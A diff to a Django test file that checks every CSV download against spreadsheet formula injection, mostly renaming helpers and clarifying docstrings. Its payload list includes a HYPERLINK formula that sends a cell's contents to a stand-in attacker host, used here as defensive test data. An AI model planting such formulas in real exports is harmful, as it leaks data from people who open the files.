@@ -1,4 +1,4 @@
-"""No cell of any CSV file that can be downloaded runs as a formula, whoever chose the text in it."""
+"""No cell of a downloadable CSV file is a formula, even if its text was chosen with that intent."""
 
 import csv
 import re
@@ -11,13 +11,14 @@ from django.urls import reverse
 from accounts.models import Team, User
 from tests.access.objects import OBJECTS, World
 from tests.access.pages import PAGES
-from tests.transfers.cast import signed_in
+from tests.fixtures.cast import signed_in
+from tests.harness.product import PACKAGES
 from transfers.models import DraftRow, PairState, TransferPair
 
 pytestmark = pytest.mark.django_db
 
-# OWASP's signs, also in full width and behind what a spreadsheet passes over.
-SIGNS = tuple("=+-@\t\r\n＝＋－＠")
+# OWASP's characters, also in full width and after characters that spreadsheets skip.
+FORMULA_CHARACTERS = tuple("=+-@\t\r\n＝＋－＠")
 HARMLESS = re.compile(r"-?[0-9]+(\.[0-9]+)?")
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1)',
@@ -31,15 +32,17 @@ EVIL = [
 ]
 
 
-def runs(cell: str) -> bool:
-    """Told by another way than the writer does: what a spreadsheet sees first, after all that it passes over."""
+def is_formula(cell: str) -> bool:
+    """Return whether a spreadsheet takes the cell for a formula; implemented independently of the writer."""
     seen = cell.lstrip("\u200b\u200e\u200f\u2060\ufeff \u00a0\u3000")
-    return cell.startswith(SIGNS) or (seen.startswith(SIGNS) and not HARMLESS.fullmatch(cell))
+    return cell.startswith(FORMULA_CHARACTERS) or (
+        seen.startswith(FORMULA_CHARACTERS) and not HARMLESS.fullmatch(cell)
+    )
 
 
 @pytest.fixture
 def world() -> World:
-    """Everybody and everything bears the name of a formula."""
+    """Users and teams with formulas as names."""
     world = World()
     for number, user in enumerate(User.objects.order_by("pk")):
         evil = EVIL[number % len(EVIL)]
@@ -54,7 +57,7 @@ def world() -> World:
 
 
 def poison() -> None:
-    """What is kept of a pair and of a file."""
+    """Put formulas into everything stored about pairs and files."""
     TransferPair.objects.update(source_name=EVIL[0], target_name=EVIL[1])
     TransferPair.objects.filter(state=PairState.FAILED).update(
         code="=code",
@@ -66,7 +69,7 @@ def poison() -> None:
 
 
 def downloads(world: World) -> dict[str, str]:
-    """By URL name, what every page answers that answers with CSV."""
+    """Return the content of every CSV response, by URL name."""
     client = signed_in(world.tara)
     found = {}
     for page in PAGES:
@@ -84,8 +87,8 @@ def test_no_cell_of_any_download_is_a_formula(world: World) -> None:
     for name, content in found.items():
         rows = list(csv.reader(StringIO(content, newline=""), strict=True))
         cells = [cell for row in rows[1:] for cell in row]
-        assert any(cell.startswith("'") for cell in cells), f"{name}: no text of this test is in it"
-        assert [cell for cell in cells if runs(cell)] == [], name
+        assert any(cell.startswith("'") for cell in cells), f"{name}: the formulas of this test are not in it"
+        assert [cell for cell in cells if is_formula(cell)] == [], name
     assert set(found) == {
         "transfers:audit-download",
         "transfers:people-export",
@@ -98,18 +101,14 @@ def test_no_cell_of_any_download_is_a_formula(world: World) -> None:
 
 
 @pytest.mark.parametrize("evil", EVIL)
-def test_this_test_knows_a_formula(evil: str) -> None:
-    assert runs(evil)
-    assert not runs(f"'{evil}")
+def test_formulas_are_recognised(evil: str) -> None:
+    assert is_formula(evil)
+    assert not is_formula(f"'{evil}")
 
 
 def test_there_is_one_writer() -> None:
-    """`csv.writer` stands in one module, so that no file is written past it, by a page or by a command."""
+    """`csv.writer` is used in one module only, so no page or command can bypass it."""
     writing = re.compile(r"csv\.(writer|DictWriter)\(")
-    code = [
-        path
-        for top in ("accounts", "transfers", "transfer_site", "user_import")
-        for path in (settings.BASE_DIR / top).rglob("*.py")
-    ]
+    code = [path for top in PACKAGES for path in (settings.BASE_DIR / top).rglob("*.py")]
     writers = [str(path.relative_to(settings.BASE_DIR)) for path in code if writing.search(path.read_text())]
-    assert writers == ["transfers/people_csv/writer.py"]
+    assert writers == ["spreadsheets/writer.py"]
